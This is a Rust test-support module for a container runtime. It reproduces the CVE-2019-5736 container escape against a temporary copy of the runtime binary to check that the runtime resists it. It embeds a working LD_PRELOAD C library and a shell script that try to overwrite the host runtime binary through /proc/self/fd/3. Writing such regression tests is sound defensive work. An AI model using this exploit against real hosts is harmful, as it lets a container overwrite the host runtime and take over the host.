//! The CVE-2019-5736 attack, for tests: a container that makes a process entering it
//! exec the runtime's own binary (`/proc/self/exe`) and then tries to overwrite that
//! binary on the host.
//!
//! The rootfs holds busybox, the host's shared libraries the runtime binary needs (so
//! it can run inside), `/evil.so` and `/attack`. Running `/proc/self/exe` in the
//! container with `LD_PRELOAD=/evil.so` (see [`ExeOverwrite::env`]) runs the runtime's
//! binary there with the attacker's code in it: the library's constructor opens
//! `/proc/self/exe` (the runtime's binary on the host, unless it is sealed) as fd 3 and
//! execs `/attack`, which leaves the runtime's image unmapped in that process and keeps
//! trying to open fd 3 for writing through `/proc/self/fd/3` until the host's
//! runtime process exits (`ETXTBSY` until then). The outcome lands in `/tmp/result` of the
//! rootfs: `WROTE` when the binary was overwritten, else the last error.
//!
//! Tests attack a copy of the binary ([`ExeOverwrite::binary`]), never the build's own.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use crate::Rootfs;

const EVIL_C: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

/* Runs inside the runtime's binary when the container execs /proc/self/exe. */
__attribute__((constructor)) static void grab(void) {
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) {
        int out = open("/tmp/result", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (out >= 0) { write(out, "NOEXE\n", 6); close(out); }
        _exit(1);
    }
    if (fd != 3) { dup2(fd, 3); close(fd); }
    unsetenv("LD_PRELOAD");
    execl("/bin/sh", "sh", "/attack", (char *)0);
    _exit(1);
}
"#;

/// Retries the write while the binary is busy, stops at the first other refusal.
const ATTACK_SH: &str = r#"#!/bin/sh
# Outside PID 1, go on in the background so that whoever waits for this process (the
# runtime's exec on the host, running the binary) can exit.
if [ $$ != 1 ] && [ "$1" != bg ]; then
  sh /attack bg </dev/null >/dev/null 2>&1 &
  exit 0
fi
exec </dev/null >/dev/null 2>/tmp/attack.log
n=0
while [ $n -lt 200 ]; do
  if echo pwned > /proc/self/fd/3; then echo WROTE > /tmp/result; exit 0; fi
  if ! tail -n 1 /tmp/attack.log | grep -q 'busy'; then
    tail -n 1 /tmp/attack.log > /tmp/result
    exit 0
  fi
  n=$((n+1))
  sleep 0.05
done
echo "still busy: $(tail -n 1 /tmp/attack.log)" > /tmp/result
"#;

/// How the attack ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    /// The binary was opened for writing and overwritten.
    Wrote,
    /// Opening it for writing failed; the shell's error line.
    Refused(String),
    /// The constructor could not open `/proc/self/exe` at all.
    NoExe,
}

/// A rootfs set up for the attack, and a copy of the runtime binary to attack.
pub struct ExeOverwrite {
    rootfs: Rootfs,
    dir: tempfile::TempDir,
    binary: PathBuf,
    original: Vec<u8>,
}

impl ExeOverwrite {
    /// Copies `binary` (the runtime under test) to a temp dir and builds the rootfs,
    /// compiling `/evil.so` with the host's gcc.
    pub fn new(binary: &Path) -> ExeOverwrite {
        let dir = tempfile::Builder::new()
            .prefix("ccrun-exe-")
            .tempdir()
            .expect("tempdir");
        crate::set_mode(dir.path(), 0o755);
        let name = binary.file_name().expect("binary name");
        let copy = dir.path().join(name);
        std::fs::copy(binary, &copy).expect("copy the binary");
        let original = std::fs::read(&copy).expect("read the copy");
        let rootfs = Rootfs::busybox();
        for lib in shared_libraries(&copy) {
            let dest = rootfs.path().join(lib.strip_prefix("/").expect("absolute"));
            std::fs::create_dir_all(dest.parent().expect("parent")).expect("lib dir");
            std::fs::copy(&lib, &dest).expect("copy library");
        }
        let src = dir.path().join("evil.c");
        std::fs::write(&src, EVIL_C).expect("evil.c");
        let so = rootfs.path().join("evil.so");
        let built = Command::new("gcc")
            .args(["-shared", "-fPIC", "-O1", "-o"])
            .arg(&so)
            .arg(&src)
            .status()
            .expect("gcc (the exploit library is built with the host's gcc)");
        assert!(built.success(), "building evil.so");
        std::fs::write(rootfs.path().join("attack"), ATTACK_SH).expect("attack");
        crate::set_mode(&rootfs.path().join("attack"), 0o755);
        ExeOverwrite {
            rootfs,
            dir,
            binary: copy,
            original,
        }
    }

    /// The rootfs to run the attacked container from.
    pub fn rootfs(&self) -> &Path {
        self.rootfs.path()
    }

    /// The copy of the runtime binary to run (and attack).
    pub fn binary(&self) -> &Path {
        &self.binary
    }

    /// A scratch directory next to the binary, removed with it.
    pub fn scratch(&self) -> &Path {
        self.dir.path()
    }

    /// The environment entry that arms the attack in the process running
    /// `/proc/self/exe`.
    pub fn env() -> &'static str {
        "LD_PRELOAD=/evil.so"
    }

    /// Waits for the attack's outcome.
    pub fn outcome(&self, timeout: Duration) -> Outcome {
        let path = self.rootfs.path().join("tmp/result");
        let deadline = Instant::now() + timeout;
        loop {
            if let Ok(text) = std::fs::read_to_string(&path) {
                if text.ends_with('\n') {
                    let line = text.trim().to_string();
                    return match line.as_str() {
                        "WROTE" => Outcome::Wrote,
                        "NOEXE" => Outcome::NoExe,
                        _ => Outcome::Refused(line),
                    };
                }
            }
            assert!(
                Instant::now() < deadline,
                "the attack reported nothing in time (attack.log: {:?})",
                std::fs::read_to_string(self.rootfs.path().join("tmp/attack.log"))
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// Whether the copy of the binary still has its original bytes.
    pub fn binary_intact(&self) -> bool {
        std::fs::read(&self.binary).is_ok_and(|now| now == self.original)
    }
}

/// The shared libraries `binary` loads (from `ldd`), and its dynamic loader.
fn shared_libraries(binary: &Path) -> Vec<PathBuf> {
    let out = Command::new("ldd").arg(binary).output().expect("ldd");
    let text = String::from_utf8_lossy(&out.stdout);
    let mut libs: Vec<PathBuf> = text
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
        .map(PathBuf::from)
        .filter(|p| p.exists())
        .collect();
    libs.sort();
    libs.dedup();
    assert!(!libs.is_empty(), "ldd found no libraries for {binary:?}");
    libs
}
